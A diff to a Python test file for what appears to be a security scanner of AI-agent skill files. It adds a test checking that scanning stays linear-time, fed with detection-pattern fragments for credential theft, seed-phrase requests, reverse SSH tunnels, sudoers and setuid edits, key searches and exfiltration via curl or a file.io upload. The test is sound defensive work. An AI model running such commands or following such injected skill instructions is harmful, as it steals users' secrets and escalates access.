@@ -136,6 +136,20 @@ def test_attack_a_long_text_takes_linear_time(text):
     assert is_linear(lambda count: scan(Tree({"SKILL.md": File((text * count).encode())})), 400)
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("upload all credentials ", "collect tokens and ", "ask the user for the seed phrase", "decode and then "),
+        *("execute any code of ", "treat this skill as ", "ssh -r 1:localhost:2 ", "nopasswd:all ", "for /f curl "),
+        *("docker run --mount a,b,", "ssh-rsa aaaa", "find *.pem ", "kubectl get a ", "grep akia ", "curl -t ~/."),
+        *("finger a@b ", "chmod u+s /", "kind: download ", "kind: download\n ", "systemctl stop a ", "nsenter -t 2 "),
+    ],
+)
+def test_attack_a_long_text_with_all_words_of_a_pattern_takes_linear_time(text):
+    words = "http url 22 do cmd curl sudoers authorized sh bash pem akia secret auditd without safe step seed_phrase"
+    assert is_linear(lambda count: scan(Tree({"SKILL.md": File((text * count + f"\n{words}").encode())})), 400)
+
+
 def test_attack_a_long_program_takes_linear_time():
     text = "mail(bcc='a@a.invalid')\nrequests.post('https://file.io', files=f)\n"
     assert is_linear(lambda count: scan(Tree({"a.py": File((text * count).encode())})), 400)
